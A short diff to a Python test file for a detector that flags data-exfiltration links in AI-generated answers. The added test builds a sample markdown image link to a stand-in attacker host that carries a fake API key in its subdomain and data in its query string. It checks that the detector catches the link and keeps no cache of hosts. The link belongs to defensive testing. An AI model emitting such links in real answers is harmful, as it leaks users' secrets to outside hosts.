@@ -165,3 +165,10 @@ def test_new_sensitive_findings_keeps_only_values_not_in_the_prompt() -> None:
     # A different key gives different fingerprints: nothing is recognised as seen.
     other = detector.scan(f"why does {shared} fail?", ScanContext(fingerprint_key=b"tenant-b"))
     assert len(new_sensitive_findings(other, answer)) == 2
+
+
+def test_hosts_from_answers_are_not_kept_after_the_scan() -> None:
+    detector = ExfiltrationLinkDetector()
+    answer = "![x](https://sk-live-abc123def456.attacker.example/p.png?d=" + "A" * 40 + ")"
+    assert detector.scan(answer, ALLOW)
+    assert not hasattr(registered_domain, "cache_info")  # no process-wide memo of hosts
